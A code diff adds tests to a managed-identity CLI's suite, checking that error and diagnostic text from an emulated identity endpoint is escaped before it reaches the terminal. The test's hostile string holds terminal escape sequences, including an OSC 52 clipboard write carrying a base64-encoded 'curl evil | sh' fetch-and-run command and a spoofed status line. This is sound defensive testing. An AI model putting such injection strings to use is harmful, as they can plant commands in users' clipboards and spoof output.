@@ -482,6 +482,46 @@ describe("managed-identity CLI", () => {
       }))
   })
 
+  describe("text an endpoint sent reaches the terminal escaped (issue 17, item 4)", () => {
+    const hostile = "\u001b[2J\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\ndoctor: 0 errors, 0 warnings in 1 ms\u202e"
+    /** Any control character but the line feeds between lines. */
+    const control = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u
+    const lines = (text: string) => text.split("\n")
+    const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url")
+
+    it.scopedLive("token: the error line on stderr is one line, its escapes shown, not run", () =>
+      Effect.gen(function*() {
+        const emulator = yield* ManagedIdentityEmulator.start()
+        yield* emulator.setFaults("Imds", [{
+          status: 400,
+          body: { error: `invalid_request${hostile}`, error_description: hostile }
+        }])
+        const outcome = yield* cli(["token", "--resource", vault], emulator.env("Imds"))
+        assert.strictEqual(outcome.code, 1)
+        const [line, ...rest] = lines(outcome.stderr)
+        assert.deepStrictEqual(rest, [""], "one line")
+        assert.notMatch(line, control)
+        assert.isTrue(line.startsWith("TokenRequestFailed: Imds answered 400 invalid_request\\x1b[2J"), line)
+      }))
+
+    it.scopedLive("doctor: claims, token type and resource echo escaped on the page; --json keeps them as sent", () =>
+      Effect.gen(function*() {
+        const emulator = yield* ManagedIdentityEmulator.start()
+        const claims = { aud: hostile, appid: hostile, oid: hostile, tid: hostile, iat: 1, exp: 2 }
+        const token = `${base64url({ alg: "none" })}.${base64url(claims)}.`
+        const answer = { access_token: token, expires_in: 3600, token_type: hostile, resource: hostile }
+        yield* emulator.setFaults("Imds", [{ status: 200, body: answer }, { status: 200, body: answer }])
+        const page = yield* cli(["doctor"], emulator.env("Imds"))
+        for (const line of lines(page.stdout)) assert.notMatch(line, control, line)
+        assert.strictEqual(lines(page.stdout).filter((line) => line.startsWith("doctor:")).length, 1)
+        assert.include(page.stdout, "\\x1b]52;c;")
+        const json = yield* cli(["doctor", "--json"], emulator.env("Imds"))
+        const report: ManagedIdentitySource.Diagnosis = JSON.parse(json.stdout)
+        assert.strictEqual(report.token?.tokenType, hostile)
+        assert.strictEqual(report.token?.claims?.oid, hostile)
+      }))
+  })
+
   describe("a token file that is no regular file (issue 17, item 3)", () => {
     /** Preloaded into the CLI's process: prints its peak resident memory (KiB) on stderr when it exits. */
     const peakReporter = Path.join(bundleDirectory, "peak.cjs")
